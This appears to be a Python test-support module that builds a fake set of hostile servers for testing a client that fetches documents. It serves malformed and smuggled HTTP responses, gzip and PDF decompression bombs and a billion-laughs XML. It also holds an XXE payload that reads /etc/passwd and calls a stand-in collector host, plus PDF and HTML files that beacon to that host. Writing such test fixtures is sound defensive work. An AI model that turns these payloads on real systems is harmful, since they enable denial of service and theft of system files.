"""Servers that a policy lists and that do everything wrong, for the box that asks them.

One name, a path for each attack.  Beside it stand names with certificates that nobody vouches
for, a listed name that leads inside, and a name that no rule covers.
"""

import gzip
import json
import ssl
import time
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from itertools import count

from tests.support.origin import INSIDE, OTHER, Request, Response, Site, Sites
from tests.support.origins.works import INJECTION, STORY

WORLD = "tests.support.origins.hostile:world"
HOST, SECOND = "a.hostile.org", "b.hostile.org"
INNER = "inner.hostile.org"  # listed, and leads to a private address
UNLISTED = "elsewhere.net"
BAD_CERTIFICATES = {
    "self-signed.hostile.org": "self-signed",
    "wrong-name.hostile.org": "wrong-name",
    "expired.hostile.org": "expired",
    "other-ca.hostile.org": "other-ca",
}
RECORD = b'{"status":"ok"}'
PAGE = b"<!DOCTYPE html><html><title>Sign in</title></html>"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
PROGRAM = b"\x7fELF\x02\x01\x01" + b"\0" * 57
ENDLESS_BYTES = 256 * 2**20  # a bound for the test's own sake
JSON_TYPE = "Content-Type: application/json"


def head(*lines: str, status: str = "200 OK") -> bytes:
    return "\r\n".join([f"HTTP/1.1 {status}", *lines, "", ""]).encode("latin-1")


def many_headers() -> bytes:
    return head(JSON_TYPE, "Content-Length: 15", *(f"X-{n}: y" for n in range(150))) + RECORD


# What is sent word for word; then the connection ends.
WORDS: dict[str, bytes] = {
    "/headers/many": many_headers(),
    "/headers/long": head(JSON_TYPE, "Content-Length: 15", f"X: {'y' * 70_000}") + RECORD,
    "/headers/endless": b"HTTP/1.1 200 OK\r\n" + b"X-Y: zzzzzzzzzzzzz\r\n" * 50_000,
    "/headers/folded": head(JSON_TYPE, "X: a\r\n b", "Content-Length: 15") + RECORD,
    "/headers/bare-lf": head(JSON_TYPE, "X: a\nY: b", "Content-Length: 15") + RECORD,
    "/headers/two-lengths": head(JSON_TYPE, "Content-Length: 15", "Content-Length: 2") + RECORD,
    "/headers/smuggled": head(JSON_TYPE, "Content-Length: 15", "Transfer-Encoding: chunked")
    + b"f\r\n"
    + RECORD
    + b"\r\n0\r\n\r\n",
    "/headers/not-http": b"220 mail.hostile.org ESMTP\r\n\r\n",
    "/headers/upgrade": head("Upgrade: h2c", status="101 Switching Protocols"),
    "/length/more": head(JSON_TYPE, "Content-Length: 1000") + RECORD,
    "/length/less": head(JSON_TYPE, "Content-Length: 2") + RECORD,
    "/length/huge": head(JSON_TYPE, "Content-Length: 99999999999999") + RECORD,
    "/length/negative": head(JSON_TYPE, "Content-Length: -1") + RECORD,
    "/chunks/cut": head(JSON_TYPE, "Transfer-Encoding: chunked") + b"f\r\n" + RECORD + b"\r\n",
    "/chunks/huge": head(JSON_TYPE, "Transfer-Encoding: chunked") + b"7fffffff\r\n" + RECORD,
    "/chunks/broken": head(JSON_TYPE, "Transfer-Encoding: chunked") + b"xyz\r\n" + RECORD,
    "/nothing": b"",
}


def _bomb() -> Response:
    packed = gzip.compress(b"\0" * (64 * 2**20))
    return Response(packed, headers=(("Content-Encoding", "gzip"),))


def _typed(body: bytes, media_type: str | None) -> Callable[[], Response]:
    return lambda: Response(body, media_type)


ANSWERS: dict[str, Callable[[], Response]] = {
    "/record": _typed(RECORD, "application/json"),
    "/page": _typed(PAGE, "text/html; charset=utf-8"),
    "/paper": _typed(PDF, "application/pdf"),
    "/type/none": _typed(RECORD, None),
    "/type/unlisted": _typed(RECORD, "text/csv"),
    "/type/malformed": _typed(RECORD, "application/json, text/html"),
    "/type/page-as-record": _typed(PAGE, "application/json"),
    "/type/paper-as-page": _typed(PDF, "text/html"),
    "/type/page-as-paper": _typed(PAGE, "application/pdf"),
    "/type/program-as-paper": _typed(PROGRAM, "application/pdf"),
    "/type/program-as-page": _typed(PROGRAM, "text/html"),
    "/bomb": _bomb,
    "/large": _typed(b'"' + b"x" * 2**20 + b'"', "application/json"),
    "/missing": lambda: Response(PAGE, "text/html", 404),
    "/busy": lambda: Response(b"", status=429, headers=(("Retry-After", "999999999"),)),
    "/nowhere": lambda: Response(b"", status=302),
}


def _endless() -> Iterator[bytes]:
    piece = b"1000\r\n" + b"[" * 4096 + b"\r\n"
    yield head(JSON_TYPE, "Transfer-Encoding: chunked")
    for _ in range(ENDLESS_BYTES // len(piece)):
        yield piece


def _endless_plain() -> Iterator[bytes]:
    yield head(JSON_TYPE)
    for _ in range(ENDLESS_BYTES // 4096):
        yield b"[" * 4096


def _drip(data: bytes) -> Iterator[bytes]:
    for at in count():
        time.sleep(0.05)
        yield data[at : at + 1] or b"x"


STREAMS: dict[str, Callable[[], Iterator[bytes]]] = {
    "/endless": _endless,
    "/endless-plain": _endless_plain,
    "/slow/body": lambda: _drip(head(JSON_TYPE, "Content-Length: 100000")),
    "/slow/head": lambda: _drip(b"HTTP/1.1 200 OK\r\nX: "),
}


def _redirect(request: Request) -> Response:
    status = int(request.query.get("status", "302"))
    location = ("Location", request.query["to"])
    return Response(PDF, "application/pdf", status, (location, ("Set-Cookie", "track=1; Path=/")))


def _echo(request: Request) -> Response:
    return Response(json.dumps({"line": request.line, "headers": request.headers}).encode())


def _numbered(request: Request) -> Response:
    """Lead from `/chain/1` to the next number, or in a circle; each after a while."""
    _, kind, number = request.path.split("/")
    if kind == "slowly":
        time.sleep(0.6)
    after = (int(number) + 1) % 3 if kind == "circle" else int(number) + 1
    return Response(b"", status=302, headers=(("Location", f"/{kind}/{after}"),))


def attack(request: Request, tls: ssl.SSLSocket) -> Response | None:
    """Answer a path as it says."""
    path = request.path
    if path in ANSWERS:
        return ANSWERS[path]()
    if path in WORDS:
        tls.sendall(WORDS[path])
    elif path in STREAMS:
        for piece in STREAMS[path]():
            tls.sendall(piece)
    elif path == "/silent":
        tls.recv(1)  # until the client goes
    elif path == "/redirect":
        return _redirect(request)
    elif path == "/echo":
        return _echo(request)
    elif path.startswith(("/chain/", "/circle/", "/slowly/")):
        return _numbered(request)
    else:
        return Response(b"not here", "text/plain", 404)
    return None


def world() -> Sites:
    sites = {HOST: Site(attack), SECOND: Site(attack)}
    sites[INNER] = Site(attack, ((INSIDE,),))
    sites[UNLISTED] = Site(attack, ((OTHER,),))
    for name, kind in BAD_CERTIFICATES.items():
        sites[name] = Site(attack, certificate=kind)  # type: ignore[arg-type]
    return sites


# -- Documents made to hurt whoever reads them, each small on the wire.
# Invented here; every one of them must end in a packet or a rejection, and nobody else may hear
# of it.

CALLER = "https://collect.example.net/heard"  # nobody may ask for this


def _flate_bomb() -> bytes:
    """A page whose content is 256 MB of blanks."""
    packer = zlib.compressobj(9)
    block = b" " * 2**20
    stream = b"".join(packer.compress(block) for _ in range(256)) + packer.flush()
    return _pdf(
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(stream), stream),
    )


def _page_cycle() -> bytes:
    return _pdf(b"<</Type/Pages/Count 9999/Kids[2 0 R 3 0 R]>>")


def _calling_pdf() -> bytes:
    """A file that asks its reader to run a script, to open a link and to send a form."""
    return _pdf(
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(%b)>>>>>>"
        % CALLER.encode(),
        catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('%b'))>>" % CALLER.encode(),
    )


def _pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    listed = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        *objects,
    ]
    data = b"%PDF-1.7\n"
    for number, item in enumerate(listed, 1):
        data += b"%d 0 obj\n%b\nendobj\n" % (number, item)
    return data + b"trailer<</Root 1 0 R/Size %d>>\n%%%%EOF\n" % (len(listed) + 1)


def _deep_page() -> bytes:
    return b"<!doctype html><title>deep</title>" + b"<div><b>" * 60_000 + STORY.encode()


def _wide_page() -> bytes:
    return b"<!doctype html><title>wide</title><p " + b"a='x' " * 60_000 + b">" + STORY.encode()


def _wild_bytes() -> bytes:
    """Text in no encoding at all."""
    return b"<!doctype html><html><title>\xff\xfe</title><p>" + bytes(range(128, 256)) * 64


def _calling_page() -> bytes:
    caller = CALLER.encode()
    return (
        b"<!doctype html><html><head><title>calls</title>"
        b"<base href='%b'><meta http-equiv=refresh content='0;url=%b'>"
        b"<link rel=stylesheet href='%b'><script src='%b'></script></head>"
        b"<body><img src='%b'><iframe src='%b'></iframe><object data='%b'></object><p>%b</p>"
        b"<p>%b</p></body></html>"
    ) % (*[caller] * 7, STORY.encode(), INJECTION.encode())


def _laughing_xml() -> bytes:
    entities = b"".join(
        b'<!ENTITY l%d "%b">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 12)
    )
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">%b]><a>&l11;</a>' % entities


def _asking_xml() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">'
        b'<!ENTITY u SYSTEM "%b">]><a>&f;&u;</a>' % CALLER.encode()
    )


def _deep_json() -> bytes:
    return b"[" * 200_000 + b"]" * 200_000


MONSTERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "/bomb.pdf": ("application/pdf", _flate_bomb),
    "/cycle.pdf": ("application/pdf", _page_cycle),
    "/calls.pdf": ("application/pdf", _calling_pdf),
    "/cut.pdf": ("application/pdf", lambda: b"%PDF-1.7\n1 0 obj\n<</Type/Cat"),
    "/deep.html": ("text/html", _deep_page),
    "/wide.html": ("text/html", _wide_page),
    "/calls.html": ("text/html; charset=utf-8", _calling_page),
    "/bytes.html": ("text/html", _wild_bytes),
    "/laughs.xml": ("application/xml", _laughing_xml),
    "/asks.xml": ("application/xml", _asking_xml),
    "/deep.json": ("application/json", _deep_json),
}


@cache
def monster(path: str) -> tuple[str, bytes] | None:
    """Return media type and bytes of the document at this path."""
    if path not in MONSTERS:
        return None
    kind, make = MONSTERS[path]
    return kind, make()
